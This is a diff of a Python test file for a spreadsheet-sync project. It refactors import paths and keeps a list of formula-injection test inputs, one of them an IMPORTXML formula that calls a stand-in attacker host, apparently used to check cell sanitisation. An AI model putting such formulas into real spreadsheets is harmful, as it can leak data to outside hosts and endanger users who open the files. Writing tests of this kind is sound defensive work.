@@ -12,10 +12,10 @@ import pandas as pd
 import pytest
 from openpyxl import Workbook
 
-from cchc_sync.backends.base import MasterBook, SheetRef
-from cchc_sync.backends.local import LocalBackend
-from cchc_sync.models import Period
-from cchc_sync.templates import load_template_set
+from cchc_sync.domain.records import Period
+from cchc_sync.domain.templates import load_template_set
+from cchc_sync.sources.base import MasterBook, SheetRef
+from cchc_sync.sources.xlsx.backend import LocalBackend
 
 PERIOD = Period(code="2022S1", start=dt.date(2021, 12, 15), end=dt.date(2022, 6, 14))
 INJECTIONS = ['=IMPORTXML("http://evil.example/x", "//a")', "+84 912", "-", "@SUM(A1)"]
